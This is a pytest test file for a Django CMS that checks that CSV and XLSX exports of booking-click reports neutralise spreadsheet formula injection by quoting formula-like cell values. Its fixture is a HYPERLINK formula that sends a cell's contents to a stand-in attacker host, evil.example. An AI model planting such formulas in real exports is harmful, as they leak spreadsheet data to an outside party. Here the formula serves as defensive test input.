"""CSV exports never hand a spreadsheet a formula (OWASP's CSV injection): a page titled like
one is exported with a leading quote in the CSV, and as a plain string cell in the XLSX."""

import csv
import io

import pytest
from openpyxl import load_workbook

from cms.booking_clicks.collect import store_batch
from cms.core.csv_cells import safe_cell
from tests.cms.test_booking_clicks import BOOK, REPORT, batch, days_ago
from tests.factories import ArticlePageFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


@pytest.mark.parametrize("text", [FORMULA, "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_formula_like_text_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Ankle care", "a=b", "", 5, -3, None])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value


def test_the_booking_clicks_export_neutralises_a_formula_title(admin_client, clinic):
    page = ArticlePageFactory(parent=clinic.articles, title=FORMULA, slug="formula")
    store_batch(batch((days_ago(0), page.pk, "cta_block", BOOK, 2)))
    response = admin_client.get(REPORT, {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][:3] == ["'" + FORMULA, "Article", "2"]
    response = admin_client.get(REPORT, {"export": "xlsx"})
    cell = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active["A2"]
    assert (cell.value, cell.data_type) == (FORMULA, "s")
